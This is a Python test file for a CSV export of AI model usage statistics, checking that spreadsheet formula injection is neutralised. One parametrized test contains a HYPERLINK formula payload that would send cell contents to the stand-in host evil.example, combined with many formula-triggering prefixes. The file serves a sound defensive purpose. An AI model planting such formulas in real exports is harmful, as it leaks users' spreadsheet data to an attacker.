from __future__ import annotations

import csv
import io

import pytest

from agents.usage import UsageRow
from settings_ui.usage_csv import as_text, usage_csv

HEADS = "calls,input_tokens,output_tokens,cache_read_tokens,waits,waited_ms,rate_limited,uncounted"


def test_a_heading_and_a_line_for_each_row() -> None:
    rows = [
        UsageRow(key="p/a", name="P · A", calls=2, input_tokens=1_000, output_tokens=20, waits=1, waited_ms=1_500),
        UsageRow(key=None, name="Removed models", calls=1, cache_read_tokens=3, rate_limited=1, uncounted=1),
    ]
    assert usage_csv("model", rows).splitlines() == [
        f"model,key,{HEADS}",
        "P · A,p/a,2,1000,20,0,1,1500,0,0",
        "Removed models,,1,0,0,3,0,0,1,1",
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠", " =", "  +"])
def test_what_looks_like_a_formula_is_made_a_text(start: str) -> None:
    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    assert as_text(hostile) == f"'{hostile}"
    [_, line] = csv.reader(io.StringIO(usage_csv("user", [UsageRow(key=hostile, name=hostile)]), newline=""))
    assert line[:2] == [f"'{hostile}", f"'{hostile}"]


@pytest.mark.parametrize("plain", ["", "ann", "a=b", "2026-11-22", "Sandbox · Claude", "l'été", "'=1", "1+1"])
def test_what_does_not_stays_as_it_is(plain: str) -> None:
    assert as_text(plain) == plain


def test_a_name_cannot_leave_its_cell() -> None:
    name = 'a",=1+1,"b\r\n=2'
    [_, line] = csv.reader(io.StringIO(usage_csv("user", [UsageRow(key="k", name=name, calls=7)]), newline=""))
    assert line[:3] == [name, "k", "7"]
